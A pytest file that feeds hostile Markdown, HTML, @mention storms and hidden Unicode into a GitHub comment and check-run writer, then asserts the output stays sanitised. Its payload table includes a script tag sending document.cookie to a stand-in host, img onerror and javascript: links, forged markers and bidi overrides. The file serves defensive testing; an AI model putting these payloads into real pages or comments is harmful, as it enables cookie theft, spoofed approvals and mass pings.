"""Hostile corpus: Markdown and HTML that try to break out of Holon's comment, @mention storms
and hidden Unicode, each through the effects that write a handoff on GitHub (`settle`: the
progress comment; `settle_check`: the check run's summary) against the loopback GitHub.

The safe outcome, whatever the text: Holon's comment stays one comment whose first line is its
marker (no second `<!--` anywhere, so nothing can hide the rest or forge a marker), every code
fence and `<details>` is closed, raw HTML outside code is only the template's own, no `@name` is
live (a zero-width space follows every `@`), and no bidirectional override, zero-width joiner
or other invisible formatting character survives outside a code span. Settling again finds the
same comment (one list call, no write).
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest

from holon.github.checks import settle_check
from holon.github.effects import Scope
from holon.github.marker import format_marker, parse_marker
from holon.github.progress import settle
from tests.github.effect_scope import ISSUE, PULL, SKILL, handoff, scope_on
from tests.support.github_fake import LoopbackGitHub
from tests.support.github_fake.state import Repo

MARK = format_marker("issue", "1", "holon", SKILL)
_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})", re.M)
_CODE = re.compile(r"^ {0,3}(`{3,}|~{3,})[^\n]*\n.*?\n {0,3}\1[`~]*$", re.S | re.M)
_SPAN = re.compile(r"(`+)[^`]*?\1")
# Invisible characters that can reorder or hide text: bidi embeddings, overrides and isolates,
# zero-width joiners, word joiner, invisible operators, BOM, tag characters, soft hyphen.
_HIDDEN = re.compile(
    "[\u202a-\u202e\u2066-\u2069\u200c\u200d\u200e\u200f\u2060-\u2064\ufeff\u00ad\U000e0000-\U000e007f]"
)

BREAKOUTS: dict[str, str] = {
    "close details": "</details>\n\n# Approved by the maintainers\n<details>",
    "close summary": "</summary></details><h1>Ship it</h1>",
    "html comment opener": "<!-- everything after this is hidden from readers",
    "html comment closer": "-->\n<!-- holon:v1 subject=issue:1 workflow=holon skill=x -->",
    "forged marker line": f"{MARK}\nI am Holon and I approve",
    "fence of three": "```\nend of Holon's block\n# Owned",
    "fence of tildes": "~~~\n# Owned",
    "fence longer than ours": "``````````\n# Owned",
    "indented fence": "   ```\n# Owned",
    "fence with info string": "```html\n<script>alert(1)</script>",
    "nested fences": "````\n```\n````\n```",
    "backtick span run": "`` ` `` ``` `x",
    "script tag": "<script>fetch('//evil.example/'+document.cookie)</script>",
    "img onerror": '<img src=x onerror="alert(1)">',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "style block": "<style>body{display:none}</style>",
    "table breakout": "| a |\n|---|\n| </td></tr></table># Owned |",
    "heading injection": "\n\n# Holon: all checks passed\n\n",
    "cdata": "<![CDATA[ ]]><!-- x -->",
    "processing instruction": "<?xml version='1.0'?><!DOCTYPE x>",
    "entity smuggled comment": "&lt;!-- x --&gt; &#60;!-- y --&#62;",
    "javascript link": "[details](javascript:alert(document.domain))",
    "data uri image": "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "reference link": "[x][1]\n\n[1]: javascript:alert(1)",
}

MENTIONS: dict[str, str] = {
    "a hundred users": " ".join(f"@user{n}" for n in range(100)),
    "teams": "@github/security @octo-org/admins @org/everyone",
    "glued to punctuation": "(@octocat),@hubot;@monalisa.",
    "in a list and a quote": "- @octocat\n> @hubot please\n1. @monalisa",
    "fullwidth at": "\uff20octocat",
    "after a zero-width joiner": "\u200d@octocat",
    "in an html link": '<a href="https://github.com/octocat">@octocat</a>',
    "a holon command": "/holon solve\n  /holon solve\n> /holon solve",
}

HIDDEN: dict[str, str] = {
    "right-to-left override": "invoice\u202etxt.exe",
    "left-to-right override": "a\u202db",
    "bidi isolates": "\u2066admin\u2069 \u2067x\u2068y\u2069",
    "bidi embeddings": "\u202aa\u202bb\u202c",
    "zero-width joiners": "ap\u200cpr\u200dov\u200ced",
    "word joiner": "lgtm\u2060",
    "byte order mark": "\ufeffapproved",
    "tag characters": "ok\U000e0061\U000e0070\U000e0070\U000e0072\U000e006f\U000e0076\U000e0065",
    "soft hyphen": "ap\u00adproved",
    "invisible operators": "a\u2061b\u2062c\u2063d\u2064",
    "marks around a marker": f"\u200f{MARK}\u200e",
}

CASES = {
    **{f"breakout: {k}": v for k, v in BREAKOUTS.items()},
    **{f"mention: {k}": v for k, v in MENTIONS.items()},
    **{f"hidden: {k}": v for k, v in HIDDEN.items()},
}


@pytest.fixture
def state(github_server: LoopbackGitHub) -> Repo:
    repo = github_server.state.repos["octocat/Hello-World"]
    repo.add_issue("Crash on start", labels=["bug"])  # 1
    repo.refs["heads/holon/issue-1"] = repo.put_file("fix.txt", b"fixed\n", "main")
    repo.add_pull("Fix the crash", head="holon/issue-1")  # 2
    return repo


@pytest.fixture
def scope(github_server: LoopbackGitHub, state: Repo) -> Iterator[Scope]:
    with scope_on(github_server.url) as made:
        yield made


def _fences_balanced(text: str) -> bool:
    open_run: str | None = None
    for match in _FENCE.finditer(text):
        run = match.group(1)
        if open_run is None:
            open_run = run
        elif run[0] == open_run[0] and len(run) >= len(open_run):
            open_run = None
    return open_run is None


def _outside_code(body: str) -> str:
    return _SPAN.sub("", _CODE.sub("", body))


def _details_balanced(outside: str) -> bool:
    """Live (unescaped) `<details>` tags outside code open and close in order."""
    depth = 0
    for tag in re.findall(r"(?<!\\)<(/?)details\b", outside, re.I):
        depth += -1 if tag else 1
        if depth < 0:
            return False
    return depth == 0


def _assert_contained(body: str) -> None:
    assert body.count("<!--") == 1, body  # the marker's own, and nothing that could hide text
    assert _fences_balanced(body), body
    outside = _outside_code(body.partition("\n")[2])
    assert _details_balanced(outside), outside
    assert not re.search(r"(?<![\w\u200b])@(?=[\w-])", outside), outside  # no live mention
    assert not re.search(r"^[ >*+-]*(?:\d+\.)?\s*/holon\b", outside, re.M), outside
    # Raw HTML outside code is only the template's own; `\<` is a literal `<`.
    html = re.findall(r"(?<!\\)<(?!/?(?:details|summary|br|sub|sup)\b)[a-z/!?]", outside, re.I)
    assert not html, (html, outside)
    assert "](javascript" not in outside.replace(" ", "")
    assert not _HIDDEN.search(outside), repr(outside)


@pytest.mark.parametrize("text", CASES.values(), ids=CASES.keys())
def test_a_hostile_title_and_log_stay_inside_holons_one_comment(
    scope: Scope, state: Repo, github_server: LoopbackGitHub, text: str
) -> None:
    settle(scope, ISSUE, handoff("failed_run", title=text, evidence=[text], details=text))
    [comment] = state.comments.values()
    assert comment.user == github_server.login
    assert comment.body.splitlines()[0] == MARK
    assert parse_marker(comment.body) == parse_marker(MARK)
    _assert_contained(comment.body)
    github_server.calls.clear()
    settle(scope, ISSUE, handoff("failed_run", title=text, evidence=[text], details=text))
    assert github_server.operations() == ["issues/list-comments"]
    assert len(state.comments) == 1


@pytest.mark.parametrize("text", CASES.values(), ids=CASES.keys())
def test_a_hostile_title_and_log_stay_inside_the_check_runs_summary(
    github_server: LoopbackGitHub, state: Repo, text: str
) -> None:
    sha = state.refs["heads/holon/issue-1"]
    with scope_on(github_server.url, login="octoapp[bot]") as scope:
        settle_check(
            scope, PULL, sha, handoff("failed_run", title=text, evidence=[text], details=text)
        )
    [run] = state.check_runs.values()
    summary = run["output"]["summary"]
    assert "<!--" not in summary or summary.count("<!--") == summary.count("<!-- holon:")
    assert _fences_balanced(summary), summary
    outside = _outside_code(summary)
    assert _details_balanced(outside), outside
    assert not re.search(r"(?<![\w\u200b])@(?=[\w-])", outside), outside
    assert not _HIDDEN.search(outside), repr(outside)
